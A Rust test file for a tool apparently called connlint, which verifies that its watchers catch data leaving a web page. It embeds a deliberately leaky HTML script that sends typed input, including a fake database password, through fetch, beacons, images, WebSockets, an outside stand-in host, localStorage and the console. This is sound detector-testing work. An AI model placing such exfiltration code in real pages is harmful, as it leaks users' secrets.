//! The tests that prove that nothing is sent would pass as well if they could not see. Here is a
//! page that leaks in every way, and it is caught.

use connlint_e2e::{Page, Result, Secret, StaticSite, Wire};
use std::fs;
use thirtyfour::prelude::Key;

const SECRET: Secret = Secret("Quince-44-Paddle");

const LEAKY: &str = r#"<!doctype html><meta charset="utf-8"><title>leaky</title>
<div data-ready data-complete><textarea id="input"></textarea></div>
<script>
  input.addEventListener("input", () => {
    if (!input.value.endsWith("!")) return;
    const text = encodeURIComponent(input.value);
    fetch("fetched?" + text).catch(() => {});
    navigator.sendBeacon("beacon", input.value);
    new Image().src = "image?" + text;
    new WebSocket("ws://" + location.host + "/socket?" + text);
    fetch("https://elsewhere.invalid/" + text).catch(() => {});
    localStorage.kept = input.value;
    console.log(input.value);
    document.title = "done";
  });
</script>"#;

#[test]
fn every_way_out_of_a_page_is_watched() -> Result {
    let folder = tempfile::tempdir()?;
    fs::write(folder.path().join("index.html"), LEAKY)?;
    let files = StaticSite::of(folder.path().to_path_buf())?;
    let wire = Wire::to(files.addr())?;
    let page = Page::open(&format!("http://{}/tools/connlint/", wire.addr()))?;
    page.requests()?;
    page.paste(&format!("postgresql://u:{}@h/d", SECRET.text()))?;
    assert_eq!(page.requests()?, []);
    assert_eq!(SECRET.trace_in(wire.sent()), None);

    page.press(Key::End + "!")?;
    let mut seen = Vec::new();
    page.until_so("the leaks in the network log", |page| {
        seen.extend(page.requests()?);
        Ok(seen.len() >= 5)
    })?;
    for way in [
        "fetched?",
        "beacon",
        "image?",
        "/socket?",
        "elsewhere.invalid",
    ] {
        assert!(
            seen.iter().any(|r| r.url.contains(way)),
            "{way} is not in {seen:?}"
        );
    }
    page.until_so("the leaks on the wire", |_| Ok(wire.requests().len() >= 5))?;
    assert!(SECRET.trace_in(wire.sent()).is_some());
    assert!(SECRET.trace_in(page.left_behind()?).is_some());
    assert!(
        SECRET
            .trace_in(page.browser().console()?.join("\n"))
            .is_some()
    );
    Ok(())
}
